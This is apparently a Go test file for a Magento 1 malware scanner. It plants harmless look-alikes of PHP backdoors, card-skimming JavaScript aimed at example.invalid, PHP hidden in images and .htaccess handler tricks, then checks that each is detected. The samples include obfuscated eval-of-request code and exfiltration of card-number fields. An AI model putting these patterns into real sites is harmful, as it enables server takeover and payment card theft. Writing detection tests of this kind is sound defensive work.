@@ -1,0 +1,266 @@
+package m1audit
+
+import (
+	"bytes"
+	"compress/flate"
+	"context"
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
+	"net/url"
+	"path/filepath"
+	"sort"
+	"strings"
+	"testing"
+)
+
+// The planted set: one harmless look-alike per way attackers hide code in
+// a Magento 1 store, written for these tests from public descriptions of
+// the techniques (no sample is copied from a corpus). Every payload is
+// guarded by if (false), points at example.invalid or only has the shape
+// of the real thing. Each is planted into a stock-shaped tree and must be
+// reported with a severity that makes the audit call the store
+// compromised (critical or high) and a rule id naming what was seen.
+
+type planted struct {
+	kind, path, content string
+	wantID              string // SignatureID or CheckID prefix expected
+}
+
+func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
+
+func deflate(s string) string {
+	var buf bytes.Buffer
+	w, _ := flate.NewWriter(&buf, 9)
+	w.Write([]byte(s))
+	w.Close()
+	return buf.String()
+}
+
+func charCodes(s string) string {
+	var parts []string
+	for _, r := range s {
+		parts = append(parts, fmt.Sprint(int(r)))
+	}
+	return strings.Join(parts, ",")
+}
+
+func hexEscaped(s string) string {
+	var b strings.Builder
+	for _, c := range []byte(s) {
+		fmt.Fprintf(&b, `\x%02x`, c)
+	}
+	return b.String()
+}
+
+func uEscaped(s string) string {
+	var b strings.Builder
+	for _, c := range s {
+		fmt.Fprintf(&b, `\u%04x`, c)
+	}
+	return b.String()
+}
+
+func percentAll(s string) string {
+	var b strings.Builder
+	for _, c := range []byte(s) {
+		fmt.Fprintf(&b, "%%%02x", c)
+	}
+	return b.String()
+}
+
+const loaderJS = "var s=document.createElement('script');s.src='https://example.invalid/l.js';document.head.appendChild(s);"
+
+func plantedSet() []planted {
+	const loc = "app/code/local/Vendor/Module/"
+	packed := b64(string(rot13([]byte(b64(deflate("if (false) { system($_GET['c']); }"))))))
+	return []planted{
+		// Backdoors in app/code/local.
+		{"php_backdoor", loc + "Model/Cb1.php", phpHead + "$k = array('x' => 1);\nif (false) { array_intersect_ukey($k, $k, \"ass\".\"ert\"); }\n", "heur.php.assembled_exec_name"},
+		{"php_backdoor", loc + "Model/Cb2.php", phpHead + "$f = 'as' . 'se' . 'rt';\nif (false) { array_walk($a, $f); }\n", "heur.php.assembled_exec_name"},
+		{"php_backdoor", loc + "Model/Cb3.php", phpHead + "if (false) { register_shutdown_function(str_rot13('nffreg'), $x); }\n", "heur.php.decoded_exec_name"},
+		{"php_backdoor", loc + "Model/Cb4.php", phpHead + "if (false) { usort($a, strrev('tressa')); }\n", "heur.php.decoded_exec_name"},
+		{"php_backdoor", loc + "Model/Cb5.php", phpHead + "$n = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);\nif (false) { array_map($n, $a); }\n", "heur.php.assembled_exec_name"},
+		{"php_backdoor", loc + "Model/Rq1.php", phpHead + "if (false) { $_GET['a']($_POST['b']); }\n", "php.call_request"},
+		{"php_backdoor", loc + "Model/Rq2.php", phpHead + "$f = $_REQUEST['f'];\nif (false) { $f($_REQUEST['c']); }\n", "heur.php.request_called"},
+		{"php_backdoor", loc + "Model/Rq3.php", phpHead + "$c = base64_decode($_COOKIE['c']);\nif (false) { eval($c); }\n", "heur.php.request_to_exec"},
+		{"php_backdoor", loc + "Model/Dec1.php", phpHead + "if (false) { eval(gzinflate(base64_decode(str_rot13(base64_decode('" + packed + "'))))); }\n", "heur.php.eval_decoded"},
+		{"php_backdoor", loc + "Model/Dec2.php", phpHead + "$p = '" + hex.EncodeToString([]byte("if (false) { passthru($_REQUEST['x']); }")) + "';\nif (false) { eval(hex2bin($p)); }\n", "heur.php.eval_decoded"},
+		{"php_backdoor", loc + "Model/Hex.php", phpHead + "if (false) { \"" + hexEscaped("assert") + "\"($_POST['x']); }\n", "heur.php.assembled_exec_name"},
+		{"php_backdoor", loc + "Model/Cf.php", phpHead + "$cf = 'create_' . 'function';\nif (false) { $g = $cf('', $body); }\n", "heur.php.assembled_exec_name"},
+		{"php_backdoor", loc + "Model/Pr.php", phpHead + "if (false) { preg_replace('/.*/e', '\\\\0', $_REQUEST['q']); }\n", "php.preg_replace_e_request"},
+		{"php_backdoor", loc + "Model/Brace.php", phpHead + "if (false) { ${'_POST'}['f']($x); }\n", "php.request_called_braces"},
+		{"php_backdoor", "app/code/local/db.php", phpHead + "/** look-alike of a single-file DB manager: @link https://www.adminer.org/ */\nclass Adminer { function name() { return 'look-alike'; } }\n", "php.adminer"},
+
+		// Browser-side skimmers in JavaScript files.
+		{"js_skimmer", "js/varien/x1.js", jsHead + "var f=[\"" + hexEscaped("cc_number") + "\",\"" + hexEscaped("cc_cid") + "\"];\n", "js.card_field_hex"},
+		{"js_skimmer", "js/lib/x2.js", jsHead + "if(false){eval(decodeURIComponent('" + percentAll(loaderJS) + "'));}\n", "heur.js.uri_payload"},
+		{"js_skimmer", "js/lib/x3.js", jsHead + "var u=atob('" + b64("https://example.invalid/s.js") + "');var s=document.createElement('script');s.src=u;\n", "js.atob_then_script"},
+		{"js_skimmer", "js/mage/x4.js", jsHead + "var k=\"" + b64("https://example.invalid/g.js") + "\";\nfunction l(){return window.atob(k);}\n", "heur.js.base64_payload"},
+		{"js_skimmer", "skin/frontend/base/default/js/x5.js", jsHead + "var u=String.fromCharCode(" + charCodes("https://example.invalid/c.js") + ");\n", "heur.js.charcode_payload"},
+		{"js_skimmer", "skin/frontend/rwd/default/js/x6.js", jsHead + "function snd(){var d=document.getElementById('cc_number').value;\nnew Image().src='https://example.invalid/i.gif?d='+encodeURIComponent(d);}\n", "heur.js.card_exfil"},
+		{"js_skimmer", "js/prototype/x7.js", jsHead + "function snd(){fetch('https://example.invalid/c',{method:'POST',body:jQuery('[name=\"payment[cc_number]\"]').val()});}\n", "heur.js.card_exfil"},
+		{"js_skimmer", "js/varien/x8.js", jsHead + "var w=new WebSocket('wss://example.invalid/ws');\nfunction snd(){w.send(document.querySelector('#authorizenet_cc_number').value);}\n", "heur.js.card_exfil"},
+		{"js_skimmer", "js/varien/x9.js", jsHead + "if(new RegExp('onepage|checkout|onestep').test(location.href)){ /* look-alike */ }\n", "js.checkout_page_list"},
+		{"js_skimmer", "js/calendar/x10.js", jsHead + "function snd(){var x=new XMLHttpRequest();x.open('POST','//example.invalid/gate');\nx.send('c='+document.getElementById('cc_cid').value);}\n", "heur.js.card_exfil"},
+		{"js_skimmer", "js/lib/x11.js", jsHead + "var n=\"" + uEscaped("cc_number") + "\";\n", "heur.js.encoded_skimmer_string"},
+		{"js_skimmer", "js/lib/x12.js", jsHead + "function snd(){navigator.sendBeacon('https://example.invalid/b', localStorage.getItem('cardnumber'));}\n", "heur.js.card_exfil"},
+
+		// Skimmers in templates and HTML.
+		{"template_skimmer", "app/design/frontend/base/default/template/page/html/footer.phtml", "<div class=\"footer\"><?php echo $this->getCopyright() ?></div>\n<script>var u=atob('" + b64("https://example.invalid/f.js") + "');var s=document.createElement('script');s.src=u;document.body.appendChild(s);</script>\n", "js.atob_then_script"},
+		{"template_skimmer", "app/design/frontend/rwd/default/template/checkout/onepage/payment.phtml", "<?php echo $this->getChildHtml('methods') ?>\n<script>\nfunction snd(){new Image().src='https://example.invalid/p.gif?n='+document.getElementById('cc_number').value;}\n</script>\n", "heur.js.card_exfil"},
+		{"template_skimmer", "errors/default/page.html", "<html><body>\n<script>var f=\"" + hexEscaped("payment[cc_number]") + "\";</script>\n</body></html>\n", "js.card_field_hex"},
+		{"template_skimmer", "app/design/frontend/base/default/template/page/html/head.phtml", "<?php echo $this->getCssJsHtml() ?>\n<script>var u=String.fromCharCode(" + charCodes("https://example.invalid/h.js") + ");</script>\n", "heur.js.charcode_payload"},
+		{"template_skimmer", "skin/frontend/base/default/promo.html", "<p>look-alike</p>\n<script>function snd(){fetch('https://example.invalid/x',{method:'POST',body:document.getElementById('cc_number').value});}</script>\n", "heur.js.card_exfil"},
+		{"template_skimmer", "app/design/frontend/base/default/template/page/js/cookie.phtml", "<script>if(false){eval(decodeURIComponent('" + percentAll(loaderJS) + "'));}</script>\n", "heur.js.uri_payload"},
+
+		// Layout XML injecting a script through a core/text block.
+		{"layout_xml", "app/design/frontend/base/default/layout/local.xml", "<?xml version=\"1.0\"?>\n<layout><default><reference name=\"before_body_end\"><block type=\"core/text\" name=\"x\"><action method=\"setText\"><text><![CDATA[<script>var u=atob(\"" + b64("https://example.invalid/x.js") + "\");var s=document.createElement(\"script\");s.src=u;</script>]]></text></action></block></reference></default></layout>\n", "js.atob_then_script"},
+
+		// PHP-bearing files outside media/, skin/, js/.
+		{"php_carrier", "errors/default/images/logo.gif", "GIF89a\x01\x00\x01\x00\x00\x00\x00<?php if (false) { system($_GET['c']); } ?>", "m1.files.php_in_image"},
+		{"php_carrier", "lib/Varien/Data/icon.png", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR<?php /* look-alike */ ?>", "m1.files.php_in_image"},
+		{"php_carrier", "favicon_8e2c1a.ico", "<?php if (false) { eval($_POST['z']); } ?>\n", "m1.files.php_in_image"},
+		{"php_carrier", "media/catalog/product/cache/x.txt", "<? if (false) { system($_GET['c']); } ?>\n", "file.php_in_non_php"},
+		{"php_carrier", "skin/frontend/base/default/images/noext", "<? @eval($_POST['z']); ?>\n", "file.php_in_non_php"},
+
+		// Handler tricks.
+		{"handler_trick", "media/catalog/.htaccess", "<Files *.jpg>\nForceType application/x-httpd-php\n</Files>\n", "heur.htaccess.php_handler_on_files"},
+		{"handler_trick", "skin/.htaccess", "AddHandler application/x-httpd-php .ico\n", "heur.htaccess.php_handler_on_ext"},
+		{"handler_trick", "var/import/.htaccess", "SetHandler application/x-httpd-php\n", "heur.htaccess.php_handler_all"},
+		{"handler_trick", ".user.ini", "auto_prepend_file = /var/www/html/media/favicon.ico\n", "heur.htaccess.prepend_hidden"},
+
+		// Executable content in data directories.
+		{"data_dir", "var/session/sess_3f1c", "<?php if (false) { system($_GET['c']); } ?>", "file.php_in_non_php"},
+		{"data_dir", "var/cache/mage--1/mage---x.php", phpHead + "// look-alike\n", "m1.files.php_in_static"},
+	}
+}
+
+// stockShaped writes the clean tree plus the stock constructs that
+// misfired before: the /e regexes of stock PEAR Mail_mime (same shape,
+// own text) and commercial-extension code with a licence check run through
+// eval(base64_decode(...)).
+func stockShaped(t *testing.T, root string) {
+	t.Helper()
+	cleanTree(t, root)
+	licence := "$h = $_SERVER['HTTP_HOST']; if (md5($h . 'look-alike') != Mage::getStoreConfig('vendor_ext/license/key')) { Mage::throwException('Invalid licence for ' . $h); }"
+	files := map[string]string{
+		"lib/PEAR/Mail/mime.php": phpHead + "class Mail_mime {\n    function _encodeHeaders($hdr_value)\n    {\n" +
+			"                    $hdr_value = preg_replace('#([\\x80-\\xFF])#e',\n                        '\"=\" . strtoupper(dechex(ord(\"\\1\")))',\n                        $hdr_value);\n        return $hdr_value;\n    }\n}\n",
+		"lib/PEAR/Mail/mimeDecode.php": phpHead + "class Mail_mimeDecode {\n    function _quotedPrintableDecode($input)\n    {\n" +
+			"\t\t$input = preg_replace('/=([a-f0-9]{2})/ie', \"chr(hexdec('\\\\1'))\", $input);\n        return $input;\n    }\n}\n",
+		"lib/PEAR/Mail/mimePart.php": phpHead + "class Mail_mimePart {\n    function _buildHeaderParam($value)\n    {\n" +
+			"            $encValue = preg_replace('#([\\x80-\\xFF])#e', '\"%\" . strtoupper(dechex(ord(\"\\1\")))', $encValue);\n        return $encValue;\n    }\n}\n",
+		"app/code/community/Vendor/Ext/Helper/License.php":                phpHead + "class Vendor_Ext_Helper_License extends Mage_Core_Helper_Abstract {\n    public function check()\n    {\n        eval(base64_decode('" + b64(licence) + "'));\n    }\n}\n",
+		"app/code/community/Vendor/Ext/Model/Observer.php":                phpHead + "class Vendor_Ext_Model_Observer {\n    public function run($o)\n    {\n        $cb = array($this, '_sort');\n        usort($o, $cb);\n        return array_map('trim', $o);\n    }\n}\n",
+		"js/vendor/ext/widget.js":                                         "(function(){var cfg={url:'https://api.example.invalid/widget'};\nfunction load(){var x=new XMLHttpRequest();x.open('GET',cfg.url);x.send();}\n})();\n",
+		"app/design/frontend/base/default/template/payment/form/cc.phtml": "<input type=\"text\" id=\"<?php echo $_code ?>_cc_number\" name=\"payment[cc_number]\" />\n<a href=\"https://www.example.invalid/cvv-help\">What is this?</a>\n",
+		"js/tinymce/langs/ru.js":                                          "tinyMCE.addI18n({ru:{common:{edit_confirm:\"\\u0412\\u044b \\u0445\\u043e\\u0442\\u0438\\u0442\\u0435 \\u0438\\u0441\\u043f\\u043e\\u043b\\u044c\\u0437\\u043e\\u0432\\u0430\\u0442\\u044c URL https://example.invalid?\"}}});\n",
+		"media/.htaccess":                                                 "Options -ExecCGI\n<IfModule mod_php5.c>\nphp_flag engine 0\n</IfModule>\nAddHandler cgi-script .php .pl .py .jsp .asp .htm .shtml .sh .cgi\n",
+		".htaccess":                                                       "DirectoryIndex index.php\n<FilesMatch \"\\.(php4|php5|php3|php2|php|phtml)$\">\nSetHandler application/x-lsphp73\n</FilesMatch>\nAddHandler application/x-httpd-ea-php73 .php .php7 .phtml\n<Files RELEASE_NOTES.txt>\n    order allow,deny\n    deny from all\n</Files>\n",
+		"index.php.sample":                                                phpHead + "require 'app/Mage.php';\n",
+		"RELEASE_NOTES.txt":                                               "==== 1.9.4.5 ====\n<?xml notes?>\n",
+		"errors/design.xml":                                               "<?xml version=\"1.0\"?>\n<design><skin>default</skin></design>\n",
+		"var/locks/index_1.lock":                                          "",
+	}
+	for p, c := range files {
+		writeFile(t, filepath.Join(root, p), c)
+	}
+}
+
+func TestStockShapedTreeHasNoCriticalOrHigh(t *testing.T) {
+	root := t.TempDir()
+	stockShaped(t, root)
+	findings, err := ScanFiles(context.Background(), root, shipped(t), ScanOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string][]string{}
+	for _, f := range findings {
+		if f.Severity == SeverityCritical || f.Severity == SeverityHigh {
+			t.Errorf("false alarm on stock-shaped code: %+v", f)
+		}
+		got[f.Path] = append(got[f.Path], fmt.Sprintf("%s/%s/%s/%v", f.CheckID, f.SignatureID, f.Severity, f.NeedsPerson))
+	}
+	// The constructs are still visible, at the severity they deserve.
+	want := map[string]string{
+		"lib/PEAR/Mail/mime.php":                           "m1.files.info/php.preg_replace_e_const/info/false",
+		"lib/PEAR/Mail/mimeDecode.php":                     "m1.files.info/php.preg_replace_e_const/info/false",
+		"lib/PEAR/Mail/mimePart.php":                       "m1.files.info/php.preg_replace_e_const/info/false",
+		"app/code/community/Vendor/Ext/Helper/License.php": "m1.files.signature/heur.php.eval_encoded/medium/true",
+	}
+	for p, w := range want {
+		if strings.Join(got[p], ",") != w {
+			t.Errorf("%s: findings %v, want [%s]", p, got[p], w)
+		}
+		delete(got, p)
+	}
+	for p, fs := range got {
+		t.Errorf("unexpected findings on stock-shaped %s: %v", p, fs)
+	}
+}
+
+// TestPlantedSamplesDetected plants every sample into one stock-shaped
+// tree and requires each to be reported at critical or high with the
+// expected rule, printing detection per kind (go test -v).
+func TestPlantedSamplesDetected(t *testing.T) {
+	root := t.TempDir()
+	stockShaped(t, root)
+	set := plantedSet()
+	for _, p := range set {
+		writeFile(t, filepath.Join(root, p.path), p.content)
+	}
+	findings, err := ScanFiles(context.Background(), root, shipped(t), ScanOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	byPath := map[string][]Finding{}
+	for _, f := range findings {
+		byPath[f.Path] = append(byPath[f.Path], f)
+	}
+	total, found := map[string]int{}, map[string]int{}
+	for _, p := range set {
+		total[p.kind]++
+		ok := false
+		for _, f := range byPath[p.path] {
+			if (f.SignatureID == p.wantID || f.CheckID == p.wantID) && (f.Severity == SeverityCritical || f.Severity == SeverityHigh) && !f.NeedsPerson {
+				ok = true
+			}
+		}
+		if ok {
+			found[p.kind]++
+		} else {
+			t.Errorf("%s %s: want %s at critical/high, got %+v", p.kind, p.path, p.wantID, byPath[p.path])
+		}
+		delete(byPath, p.path)
+	}
+	for p, fs := range byPath {
+		for _, f := range fs {
+			if f.Severity == SeverityCritical || f.Severity == SeverityHigh {
+				t.Errorf("false alarm on stock-shaped %s: %+v", p, f)
+			}
+		}
+	}
+	var kinds []string
+	for k := range total {
+		kinds = append(kinds, k)
+	}
+	sort.Strings(kinds)
+	for _, k := range kinds {
+		t.Logf("detection %-16s %2d/%2d", k, found[k], total[k])
+	}
+}
+
+// TestScanContentDecodesSkimmers: database content (CMS blocks, design
+// head/footer) gets the same browser-side rules and heuristics as files.
+func TestScanContentDecodesSkimmers(t *testing.T) {
+	sigs := shipped(t)
+	html := []byte("<p>Free shipping</p><script>var n=\"" + uEscaped("cc_number") + "\";</script>")
+	fs := sigs.ScanContent("cms_block[footer]", html, ScopeHTML)
+	if len(fs) == 0 || fs[0].SignatureID != "heur.js.encoded_skimmer_string" || fs[0].CheckID != CheckContentSignature || fs[0].Path != "cms_block[footer]" {
+		t.Fatalf("findings %+v", fs)
+	}
+	if fs := sigs.ScanContent("cms_block[ok]", []byte("<p>"+url.QueryEscape("a b")+"</p>"), ScopeHTML); len(fs) != 0 {
+		t.Fatalf("clean content: %+v", fs)
+	}
+}
